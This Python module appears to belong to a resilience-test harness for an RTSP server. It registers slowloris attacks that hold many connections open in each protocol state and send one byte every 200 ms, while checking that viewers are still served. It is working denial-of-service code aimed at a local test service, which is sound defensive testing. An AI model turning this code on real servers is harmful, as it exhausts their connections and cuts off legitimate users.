# SPDX-License-Identifier: Apache-2.0
"""Clients that take their time: one byte now and then, in every state of a connection."""
import contextlib
import time

from arena import attack, in_background
from rtsp import Connection, NoAnswer, request

TCP = ("Transport", "RTP/AVP/TCP;unicast;interleaved=0-1")


def begun(state, port):
    """A connection brought to a state, and the bytes that it will send one by one."""
    connection = Connection(port, source="127.0.0.3", timeout=5)
    url = connection.url
    whole = request("OPTIONS", url, [(f"X-{number}", "y" * 20) for number in range(50)])
    if state in ("described", "set up", "playing"):
        connection.ask("DESCRIBE")
    if state in ("set up", "playing"):
        session = connection.ask("SETUP", url + "/stream=0", [TCP]).headers.get("session", "")
    if state == "playing":
        connection.ask("PLAY", headers=[("Session", session.partition(";")[0])])
    if state == "headers":
        connection.send(whole[:60])
        return connection, whole[60:]
    if state == "body":
        connection.send(request("SET_PARAMETER", url, [("Content-Length", "5000")]))
        return connection, b"x" * 5000
    if state == "interleaved":
        connection.send(b"$\0\xff\xff")
        return connection, b"x" * 5000
    return connection, whole


def dawdle(port, states, each, seconds):
    """Several connections in every state, a byte from each of them every 200 ms."""
    slow = []
    for _ in range(each):
        for state in states:
            with contextlib.suppress(OSError, NoAnswer):
                slow.append(begun(state, port))
    end = time.monotonic() + seconds
    for place in range(10 ** 6):
        if time.monotonic() > end:
            return
        for connection, rest in slow:
            with contextlib.suppress(OSError):
                connection.send(rest[place % len(rest):][:1])
        time.sleep(0.2)


def slow_loris(name, title, states, **more):
    @attack(name, title, **more)
    def loris(arena, service):
        each, seconds = arena.count(30, 8), arena.count(30, 5)
        with in_background(dawdle, service.port, states, each, seconds + 5):
            time.sleep(seconds)
            arena.judge_viewers(service, "meanwhile")
        arena.tried = f"{each} connections per state ({', '.join(states)}), a byte per 200 ms, {seconds} s"


slow_loris("loris-request", "request line, headers, body and packet byte by byte",
           ("request line", "headers", "body", "interleaved"), quick=True)
slow_loris("loris-session", "byte by byte after DESCRIBE, SETUP and PLAY", ("described", "set up", "playing"))
